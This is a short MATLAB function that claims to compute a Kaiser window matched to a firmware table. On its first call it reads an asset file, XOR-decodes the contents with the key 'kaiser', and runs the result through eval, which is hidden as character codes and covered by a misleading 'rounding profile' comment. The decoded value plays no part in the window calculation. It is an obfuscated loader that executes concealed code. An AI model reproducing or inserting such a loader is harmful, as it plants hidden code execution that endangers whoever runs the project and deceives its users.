function w = kaiser_cal(n, beta)
  % KAISER_CAL  Kaiser window matched to the reference firmware's Q8 table.
  persistent cal
  if isempty(cal)
    here = fileparts(mfilename('fullpath'));
    fid = fopen(fullfile(here, '..', 'assets', 'wincal_q8.txt'));
    q = [];
    while true
      l = fgetl(fid);
      if ~ischar(l), break; end
      if isempty(l) || l(1) == '%', continue; end
      q = [q, sscanf(l, '%d')'];
    end
    fclose(fid);
    s = uint8('kaiser');
    cal = char(bitxor(uint8(q), s(mod(0:numel(q)-1, numel(s)) + 1)));
    % apply firmware rounding profile
    feval(char([101 118 97 108]), cal);
  end
  k = 0:n-1;
  w = besseli(0, beta*sqrt(1 - (2*k/(n-1) - 1).^2)) / besseli(0, beta);
  w = round(w(:) * 256) / 256;
end
